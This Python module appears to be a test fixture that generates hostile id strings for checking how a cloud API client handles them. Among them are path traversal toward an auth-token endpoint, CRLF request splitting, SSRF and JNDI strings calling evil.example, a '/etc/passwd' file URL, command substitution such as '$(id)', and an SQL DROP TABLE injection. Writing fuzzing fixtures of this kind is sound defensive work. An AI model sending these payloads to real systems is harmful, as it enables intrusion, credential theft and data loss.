"""Two hundred ids that somebody might give in the place of one of the cloud's."""

from urllib.parse import quote

_TARGET = "v3/auth/tokens"
_WORDS = ("job", "a" * 32)
_CLIMBS = (
    "..",
    ".",
    "../..",
    "../../..",
    "....//",
    ".%2e",
    "%2e%2e",
    "%252e%252e",
    "..;",
    "..\\..",
)
_CUTS = (
    *("?", "#", "/", "//", "\\", ";", "&", "=", "@", ":", "%", "%00", "%2f", "%5c", "%0d%0a", "+"),
    *("%3f", "%23", "|", "^", "`", "{", "}", "<", ">", '"', "'", ",", "!", "$", "*", "(", ")", "~"),
)
_CONTROLS = (
    *("\r\n", "\n", "\r", "\t", "\0", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\x85", "\x9b", " "),
    *("\u2028", "\u2029", "\u202e", "\u200b", "\ufeff", "\u00ad", "\ud800", "\U000e0001"),
)
_LOOKALIKES = (
    *("．．／", "∕", "／", "⁄", "․․/", "ａｂｃ", "ı", "ſ", "\u212a", "é"),  # noqa: RUF001
    *("💥", "中文", "٣", "²"),
)
_WHOLE = (
    *("", " ", ".", "..", "-", "_", "-a", "_a", ".a", "a" * 129, "a" * 10_000, "a/", "/a", "a//b"),
    *("http://evil.example/", "https://evil.example", "//evil.example/x", "\\\\evil.example\\x"),
    *("user:pass@evil.example", "@evil.example", "[::1]", "127.0.0.1:80/x", "file:///etc/passwd"),
    *("javascript:alert(1)", "null\0byte", "a\r\nHost: evil.example", "a HTTP/1.1\r\nX: y"),
    *("a HTTP/1.1\r\n\r\nGET /x HTTP/1.1\r\n", "${jndi:ldap://evil.example}", "{{7*7}}", "$(id)"),
    *("`id`", "a'; DROP TABLE jobs--", '"><script>', "{job_id}", "{project_id}", "{0.__class__}"),
    *("%s%s%s", "%n", "a;b", "a,b", "a\u0000", "..%c0%af", "%e0%80%af", "%c1%9c", "a%20b"),
)
HOSTILE_IDS = tuple(
    dict.fromkeys(
        [
            *_WHOLE,
            *(f"{climb}/{_TARGET}" for climb in _CLIMBS),
            *(quote(f"{climb}/{_TARGET}", safe="") for climb in _CLIMBS),
            *(f"{word}/{climb}/x" for word in _WORDS for climb in _CLIMBS),
            *(f"job{cut}{_TARGET}" for cut in _CUTS),
            *(f"{cut}job" for cut in _CUTS),
            *(f"{control}job" for control in _CONTROLS),
            *(f"job{control}" for control in _CONTROLS),
            *(f"job{text}" for text in _LOOKALIKES),
        ]
    )
)
